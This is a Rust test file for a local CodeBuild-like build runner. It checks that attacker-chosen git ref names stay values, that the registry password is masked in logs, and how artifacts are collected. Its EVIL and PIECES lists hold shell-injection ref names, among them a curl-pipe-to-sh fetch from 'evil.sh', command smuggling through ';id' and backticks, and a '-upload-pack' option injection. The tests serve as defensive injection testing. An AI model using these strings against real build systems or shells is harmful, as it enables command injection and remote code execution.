//! What a build sees, and that nothing a stranger chose is ever a command (A9).

use super::*;

/// INVARIANTS 2.4: refs that Git allows and shells do not forgive.
const EVIL: [&str; 23] = [
    "a$(curl${IFS}evil.sh|sh)",
    "x;id",
    "x`id`",
    "x&&id",
    "x|sh",
    "x'y",
    "x\"y",
    "x{a,b}",
    "x#y",
    "x%0a",
    "x<y>",
    "x=y",
    "${{github.token}}",
    "{{x}}",
    "!!python",
    "null",
    "yes",
    "@",
    "HEAD",
    "refs/heads/x",
    "-upload-pack=touch",
    "--help",
    "a\u{202e}b",
];

/// Pieces that random refs are made of; whatever runs by mistake leaves a file `canary`.
const PIECES: [&str; 20] = [
    "$(touch${IFS}canary)",
    "`touch${IFS}canary`",
    ";touch${IFS}canary;",
    "&&touch${IFS}canary",
    "|touch${IFS}canary",
    ">canary",
    "'",
    "\"",
    "$HOME",
    "${PWD}",
    "#",
    "!",
    "%s",
    "{a,b}",
    "(",
    ")",
    "\u{202e}",
    "\u{e9}",
    "-",
    "a",
];

/// As many different refs of random pieces, the same each time.
fn random_refs(count: usize) -> Vec<String> {
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = |below: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        usize::try_from(state % below as u64).unwrap()
    };
    let mut refs = Vec::new();
    while refs.len() < count {
        let pieces = 1 + next(6);
        let name: String = (0..pieces).map(|_| PIECES[next(PIECES.len())]).collect();
        let legal = Command::new("git")
            .args(["check-ref-format", &format!("refs/heads/{name}")])
            .status()
            .unwrap();
        if legal.success() && !refs.contains(&name) {
            refs.push(name);
        }
    }
    refs
}

#[tokio::test]
async fn a9_evil_refs_are_values_and_never_commands() {
    let world = World::new(4).await;
    let refs: Vec<String> = EVIL
        .iter()
        .map(|name| (*name).to_owned())
        .chain(random_refs(200))
        .collect();
    // In the second shell the values come from what the first one wrote down.
    let spec = |shell: &str| {
        format!(
            "version: 0.2
env: {{shell: {shell}, exported-variables: [GIT_BRANCH, GIT_REF, TITLE, SEEN]}}
phases:
  build:
    commands:
      - 'printf \"%s\\n\" \"$GIT_BRANCH\" > seen'
      - 'if [ \"$GIT_REF\" = \"refs/heads/$GIT_BRANCH\" ]; then exit 0; fi; exit 1'
      - 'printf \"%s\\n\" \"$GIT_BRANCH\" >> seen; export SEEN=\"$(cat seen)\"'
      - 'case \"$(find \"$CODEBUILD_SRC_DIR\" \"$HOME\" -name canary)\" in \"\") ;; *) exit 2 ;; esac'
"
        )
    };
    let specs = [spec("bash"), spec("/bin/sh")];
    let mut builds = Vec::new();
    for (number, name) in refs.iter().enumerate() {
        let number = u32::try_from(number).unwrap();
        let mut request = world.request(number, &specs[usize::from(number % 2 == 0)]);
        request.environment = vec![
            ("GIT_BRANCH".into(), name.clone()),
            ("GIT_REF".into(), format!("refs/heads/{name}")),
            ("TITLE".into(), format!("{name}\n{name}")),
        ];
        builds.push((name, world.runner.start(request).await.unwrap()));
    }
    for (name, build) in builds {
        let report = world.end(&build).await;
        let log = world.log(&build).await;
        assert_eq!(report.status, BuildStatus::Succeeded, "{name:?}: {log}");
        let exported = world.runner.exported_variables(&build).await.unwrap();
        let expected = [
            ("GIT_BRANCH", name.clone()),
            ("GIT_REF", format!("refs/heads/{name}")),
            ("TITLE", format!("{name}\n{name}")),
            ("SEEN", format!("{name}\n{name}")),
        ];
        let expected = expected.map(|(name, value)| (name.to_owned(), value));
        assert_eq!(exported.unwrap(), expected);
    }
    let stray = Command::new("find")
        .args([world.dir.path().as_os_str(), "-name".as_ref()])
        .arg("canary")
        .output()
        .unwrap();
    assert_eq!(String::from_utf8(stray.stdout).unwrap(), "");
}

#[tokio::test]
async fn a_build_sees_what_codebuild_sets_and_nothing_of_ours() {
    let world = World::new(1).await;
    let mut request = world.request(
        1,
        "version: 0.2
env: {variables: {FROM: spec, BOTH: spec, CODEBUILD_BUILD_ID: spec, PATH: /spec/bin}}
phases: {build: {commands: ['/usr/bin/env > \"$OUT\"']}}
",
    );
    let out = world.path("out");
    request.environment = vec![
        ("BOTH".into(), "start".into()),
        ("OUT".into(), out.display().to_string()),
    ];
    let build = world.runner.start(request).await.unwrap();
    assert_eq!(world.end(&build).await.status, BuildStatus::Succeeded);
    let data = world.path("data").canonicalize().unwrap();
    let folder = data.join("builds").join(attempt(1).as_str());
    let seen = fs::read_to_string(out).unwrap();
    let seen = seen
        .replace(&folder.display().to_string(), "BUILD")
        .replace(world.commit.as_str(), "COMMIT")
        .replace(&world.dir.path().display().to_string(), "DIR");
    let of_the_shell = ["_=", "SHLVL=", "PWD=", "OLDPWD="];
    let mut seen: Vec<&str> = seen
        .lines()
        .filter(|line| !of_the_shell.iter().any(|name| line.starts_with(name)))
        .collect();
    seen.sort_unstable();
    let seen = seen.join("\n");
    expect_test::expect![[r#"
        AWS_DEFAULT_REGION=eu-central-1
        AWS_REGION=eu-central-1
        BOTH=start
        CODEBUILD_BUILD_ARN=arn:aws:codebuild:eu-central-1:000000000000:build/towline-acme-shop-web:00000000-0000-0000-0000-000000000001
        CODEBUILD_BUILD_ID=towline-acme-shop-web:00000000-0000-0000-0000-000000000001
        CODEBUILD_BUILD_IMAGE=aws/codebuild/standard:7.0
        CODEBUILD_BUILD_NUMBER=1
        CODEBUILD_BUILD_SUCCEEDING=1
        CODEBUILD_INITIATOR=towline
        CODEBUILD_KMS_KEY_ID=arn:aws:kms:eu-central-1:000000000000:alias/aws/s3
        CODEBUILD_LOG_PATH=00000000-0000-0000-0000-000000000001
        CODEBUILD_RESOLVED_SOURCE_VERSION=COMMIT
        CODEBUILD_SOURCE_REPO_URL=https://github.com/acme/shop.git
        CODEBUILD_SOURCE_VERSION=COMMIT
        CODEBUILD_SRC_DIR=BUILD/src
        CODEBUILD_START_TIME=1767323045000
        FROM=spec
        HOME=BUILD/home
        LANG=C.UTF-8
        OUT=DIR/out
        PATH=BUILD/bin:/spec/bin"#]].assert_eq(&seen);
}

#[tokio::test]
async fn a31_the_registry_password_is_for_the_build_and_never_in_its_log() {
    let world = World::new(1).await;
    let (status, log) = world
        .run(
            1,
            "version: 0.2
phases:
  build:
    commands:
      - p=$(aws ecr get-login-password --region eu-central-1) && [ ${#p} = 15 ]
      - p=$(aws ecr get-login-password) && [ ${#p} = 15 ]
      - echo \"it is $p\"; aws ecr get-login-password; printf 'AWS:%s' \"$p\" | base64
      - env | grep -c hunter2 || true
      - PATH=${PATH%%:*} aws s3 ls || echo \"status $?\"
      - mkdir tools; printf '#!/bin/sh\\necho \"the real one $*\"\\n' > tools/aws; chmod +x tools/aws
      - PATH=${PATH%%:*}:$PWD/tools aws ecr get-login-password --profile other
      - PATH=${PATH%%:*}:$PWD/tools aws s3 ls 'a b'
      - towline && echo towline is there
",
        )
        .await;
    assert_eq!(status, BuildStatus::Succeeded, "{log}");
    assert!(!log.contains(PASSWORD), "{log}");
    assert!(log.contains("it is ***\n***\n***\n"), "{log}");
    let sentence = "aws: there is no AWS command line on this machine; towline stands in for";
    assert!(log.contains(sentence), "{log}");
    assert!(log.contains("status 127\n"), "{log}");
    let real = "the real one ecr get-login-password --profile other\n";
    assert!(log.contains(real), "{log}");
    assert!(log.contains("\nthe real one s3 ls a b\n"), "{log}");
    assert!(log.contains("\ntowline is there\n"), "{log}");
}

#[tokio::test]
async fn the_source_is_one_commit_without_a_remote() {
    let world = World::new(1).await;
    let (status, log) = world
        .run(
            1,
            "version: 0.2
phases:
  build:
    commands:
      - cat hello.txt
      - '[ \"$(git rev-parse HEAD)\" = \"$CODEBUILD_RESOLVED_SOURCE_VERSION\" ]'
      - '[ -z \"$(git remote)\" ] && [ \"$(git rev-list --all --count HEAD)\" = 1 ]'
      - '[ -z \"$(ls .git/hooks 2>/dev/null)\" ] && [ -z \"$(git status --porcelain)\" ]'
",
        )
        .await;
    assert_eq!(status, BuildStatus::Succeeded, "{log}");
    assert!(log.contains("\nhello\n"), "{log}");
    let left = fs::read_dir(world.path("data/builds")).unwrap().count();
    assert_eq!(left, 0, "folders of builds are removed");
}

#[tokio::test]
async fn artifacts_are_kept_and_what_is_missing_is_said() {
    let world = World::new(1).await;
    let build = world
        .start(
            1,
            "version: 0.2
phases: {build: {commands: ['ln -s /etc/passwd link; mkdir out; echo a > out/a; chmod 500 out']}}
artifacts:
  files: ['**/*.md', out/a, link, 'absent/*']
  exclude-paths: []
  secondary-artifacts: {flat: {files: ['docs/**/*'], discard-paths: yes}, out: {files: ['*'], base-directory: ../..}}
",
        )
        .await;
    assert_eq!(world.end(&build).await.status, BuildStatus::Succeeded);
    let kept = world.runner.artifacts(&build).await.unwrap().unwrap();
    let read = |path: &str| fs::read_to_string(kept.join(path)).unwrap();
    assert_eq!(read("main/docs/deep/page.md"), "page\n");
    assert_eq!(read("main/out/a"), "a\n");
    assert_eq!(read("secondary/flat/page.md"), "page\n");
    assert!(!kept.join("main/link").exists());
    let log = world.log(&build).await;
    for line in [
        "Kept 2 files as artifacts in",
        "No file fits the artifact pattern link",
        "No file fits the artifact pattern absent/*",
        "Artifacts were not kept: the base directory \"../..\" is outside the source",
    ] {
        assert!(log.contains(line), "{line}: {log}");
    }
}
